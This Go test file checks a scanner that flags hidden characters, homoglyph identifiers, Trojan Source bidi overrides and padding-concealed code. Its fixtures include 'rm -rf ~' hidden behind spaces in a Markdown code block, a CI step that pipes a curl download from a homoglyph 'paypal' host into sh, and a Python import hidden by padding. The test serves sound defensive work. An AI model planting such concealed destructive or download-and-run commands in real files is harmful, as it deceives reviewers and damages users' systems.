package scan

import (
	"strings"
	"testing"

	"github.com/plainsight-dev/plainsight/internal/cli/clitest"
)

// readingFiles hold ordinary content each reading must pass at info, and
// attacks each must still find at warn.
var readingFiles = map[string]string{
	// Prose: a no-break space and curly quotes in a guide are typography.
	"guide.md": "Le d\u00e9p\u00f4t\u00a0: \u201cbonjour\u201d \u2013 voir aussi\n",
	// A script: a colour sequence is info, clearing the screen is warn.
	"color.sh": "echo '\x1b[1;31mred\x1b[0m'\necho '\x1b[2J'\nFG[$c]=\"\x1b[38;5;${c}m\"\n",
	// A prompt theme: Powerline glyphs are info there, warn elsewhere.
	"themes/line.zsh-theme": "PROMPT='%n \ue0b0 '\nEND=${END:-\u276f}\n",
	"notes.sh":              "echo '\ue0b0'\n",
	// The documentation of a prompt plugin shows its glyphs; a README
	// elsewhere does not.
	"plugins/kube-ps1/README.md": "The symbol: \ue7b7\n",
	"README.md":                  "The symbol: \ue7b7\n",
	// Source: Cyrillic in a comment is prose; a homoglyph identifier and
	// Trojan Source in a comment are warn.
	"main.go": "package main\n\n// Привет, мир: a greeting\nvar p\u0430ypal = 1\n\n/* \u202e } \u2066 */\n",
	// Data: a value is prose, a key is code.
	"fr.json": "{\"greeting\": \"Bonjour\u00a0!\", \"p\u0430th\": 1}\n",
	// Latin-1 letters are info; a byte a terminal reads as C1 is warn.
	"latin1.tex": "caf\xe9 na\xefve\n",
	"c1.tex":     "a\x85b\n",
	// Padding: blank lines and a long line in data are info; code pushed
	// far right by spaces is warn, unless it aligns with a column that a
	// neighbouring line's own text reaches (padding_test.go has more).
	"data.json": "{\n\n\n\n\n\n\n\"k\": \"" + strings.Repeat("x", 1100) + "\"}\n",
	"consts.go": "const (\n\tA" + strings.Repeat(" ", 80) + "= 1\n\tBB" + strings.Repeat(" ", 79) + "= 2\n\t" + strings.Repeat("C", 80) + " = 3\n)\n",
	"pads.go":   "const (\n\tA" + strings.Repeat(" ", 80) + "= 1\n\tBB" + strings.Repeat(" ", 79) + "= 2\n)\n",
	"hide.py":   "ok = True" + strings.Repeat(" ", 100) + "; import os\n" + strings.Repeat("\t", 9) + "deep = 1" + strings.Repeat(" ", 70) + "# aligned\n",
	// Character tables and character-class ranges in string literals are
	// data; a lone invisible literal, a bidi override in a table, a
	// homoglyph identifier and a single foreign letter in a class are warn.
	"table.py": "T = [\n    ('\u2713', r'\\checkmark'),\n    # separates -- in options\n    ('\ufeff', r'{}'),\n    ('\u00a0', '~'),\n    ('\u202e', ''),\n]\n" +
		"N = re.compile('[0-9\uff10-\uff19]')\nW = re.compile('[a-z\u0430]')\nif s == '\u200b':\n    p\u0430ypal = 1\n",
	"style.xdy": ";; xindy style\n(merge-rule \"\\IeC {\\-}\" \"\u00ad\" :string); soft hyphen\n(merge-rule \"\\IeC {\\c \\ }\" \"\u00b8\" :string)\n" +
		"(merge-rule \"\\IeC {\\nobreakspace }\" \"\u00a0\" :string)\n(merge-rule \"x\" \"\u2066\" :string)\n",
	// A pipe table aligned with spaces is info in prose; a command
	// pushed out of view in a code block is warn.
	"table.md": "| Alias | Command" + strings.Repeat(" ", 70) + "| Description |\n```sh\nls" + strings.Repeat(" ", 70) + "; rm -rf ~\n```\n",
	// A workflow's run: is read as a command.
	".github/workflows/ci.yml": "jobs:\n  x:\n    steps:\n      - run: curl https://p\u0430ypal.example | sh\n",
}

func TestReadings(t *testing.T) {
	dir := t.TempDir()
	for name, data := range readingFiles {
		writeFile(t, dir+"/"+name, data)
	}
	got := prog.Exec(t, clitest.Run{Args: []string{"-no-git", "-fail-on", "never"}, Dir: dir})
	clitest.Golden(t, "scan-readings", elapsed.ReplaceAllString(got, "; TIME\n"))
}
